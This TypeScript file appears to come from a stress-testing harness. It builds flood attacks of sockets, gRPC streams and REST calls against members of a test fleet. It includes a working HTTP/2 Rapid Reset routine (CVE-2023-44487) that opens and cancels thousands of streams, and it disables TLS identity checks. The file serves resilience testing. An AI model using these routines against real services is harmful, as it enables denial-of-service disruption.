/**
 * What attacks of the flood are made of: sockets, HTTP/2 streams and requests that are let go when their turn is over.
 */
import { connect as connectHttp2, constants } from 'node:http2';
import { request } from 'node:https';
import { connect as connectTcp, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { systemClock } from '../../platform/clock.js';
import type { ClientTls } from '../bench/grpc-wire.js';
import type { Member } from './fleet.js';

const { HTTP2_HEADER_METHOD, HTTP2_HEADER_PATH, HTTP2_HEADER_CONTENT_TYPE, HTTP2_HEADER_TE, NGHTTP2_CANCEL } =
  constants;
/** Beyond it an attacker lets go, and begins anew. */
export const TURN_MS = 5000;

export interface Target {
  readonly member: Member;
  readonly tls: CallerTls;
}

/** Without certificate and key: nobody. */
export type CallerTls = Pick<ClientTls, 'ca'> & Partial<ClientTls>;

/** Attempts on one connection, each counted; resolves when that is over, whatever came of them. */
export type Attack = (target: Target, count: () => void) => Promise<void>;

export const credentialsOf = ({ cert, key }: CallerTls): { readonly cert?: string; readonly key?: string } =>
  cert === undefined || key === undefined ? {} : { cert, key };

export const headersOf = (path: string) => ({
  [HTTP2_HEADER_METHOD]: 'POST',
  [HTTP2_HEADER_PATH]: path,
  [HTTP2_HEADER_CONTENT_TYPE]: 'application/grpc',
  [HTTP2_HEADER_TE]: 'trailers',
});

/** A connection that neither goes on nor ends is let go. `over` is called once, when it is closed or was let go. */
export function bounded(
  connection: { destroy(): void; on(event: 'close', callback: () => void): unknown },
  over: () => void,
): void {
  const timer = systemClock.after(2 * TURN_MS, () => {
    connection.destroy();
    over();
  });
  connection.on('close', () => {
    timer.cancel();
    over();
  });
}

export function socketAttack(open: (target: Target) => Socket, data: () => Uint8Array): Attack {
  return (target, count) =>
    new Promise((resolve) => {
      count();
      const socket = open(target);
      socket.setTimeout(TURN_MS, () => socket.destroy());
      socket.on('error', () => undefined);
      bounded(socket, resolve);
      socket.resume();
      socket.end(data());
    });
}

export const tcp =
  (port: 'grpc' | 'api') =>
  ({ member }: Target) =>
    connectTcp({ host: member.place.host, port: member.place[port] });
export const tlsSocket =
  (port: 'grpc' | 'api', alpn: string, known: boolean) =>
  ({ member, tls }: Target) =>
    connectTls({
      host: member.place.host,
      port: member.place[port],
      ca: tls.ca,
      ALPNProtocols: [alpn],
      checkServerIdentity: () => undefined,
      ...(known ? credentialsOf(tls) : {}),
    });
export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

/** Calls over one connection, one after the other, until the turn is over or the member has had enough. */
export function grpcAttack(path: string, body: () => Buffer, pause_ms = 0): Attack {
  return ({ member, tls }, count) =>
    new Promise((resolve) => {
      const session = connectHttp2(`https://${member.endpoint}`, { ca: tls.ca, ...credentialsOf(tls) });
      const end_ms = systemClock.monotonic() + TURN_MS;
      session.on('error', () => undefined);
      bounded(session, resolve);
      const next = () => {
        if (session.closed || session.destroyed || systemClock.monotonic() > end_ms) {
          session.destroy();
          return;
        }
        count();
        const stream = session.request(headersOf(path));
        stream.on('error', () => undefined);
        stream.on('close', () => void systemClock.sleep(pause_ms).then(next));
        stream.setTimeout(TURN_MS, () => stream.close(NGHTTP2_CANCEL));
        stream.resume();
        stream.end(body());
      };
      session.on('connect', next);
    });
}

/** Streams opened and reset at once (CVE-2023-44487). */
export const rapidReset: Attack = ({ member, tls }, count) =>
  new Promise((resolve) => {
    const session = connectHttp2(`https://${member.endpoint}`, { ca: tls.ca, ...credentialsOf(tls) });
    session.on('error', () => undefined);
    bounded(session, resolve);
    session.on(
      'connect',
      () =>
        void (async () => {
          for (let i = 0; i < 200 && !session.closed && !session.destroyed; i++) {
            for (let burst = 0; burst < 20 && !session.destroyed; burst++) {
              count();
              const stream = session.request({
                [HTTP2_HEADER_METHOD]: 'POST',
                [HTTP2_HEADER_PATH]: '/etcdserverpb.Watch/Watch',
                [HTTP2_HEADER_CONTENT_TYPE]: 'application/grpc',
              });
              stream.on('error', () => undefined);
              stream.close(NGHTTP2_CANCEL);
            }
            await systemClock.sleep(1);
          }
          session.destroy();
        })(),
    );
  });

export interface RestCall {
  readonly path: string;
  readonly method?: string;
  readonly type?: string;
  readonly body?: () => Uint8Array | string;
  readonly headers?: Readonly<Record<string, string>>;
  /** With the caller's certificate, if it has one. */
  readonly known?: boolean;
}

export function restAttack({
  path,
  method = 'POST',
  type = 'application/json',
  body,
  headers,
  known = true,
}: RestCall): Attack {
  return ({ member, tls }, count) =>
    new Promise((resolve) => {
      count();
      const call = request(
        {
          host: member.place.host,
          port: member.place.api,
          path,
          method,
          headers: { 'content-type': type, ...headers },
          ca: tls.ca,
          agent: false,
          timeout: TURN_MS,
          ...(known ? credentialsOf(tls) : {}),
        },
        (response) => {
          response.on('error', () => undefined);
          response.resume();
        },
      );
      call.on('timeout', () => call.destroy());
      call.on('error', () => undefined);
      bounded(call, resolve);
      call.end(body?.());
    });
}
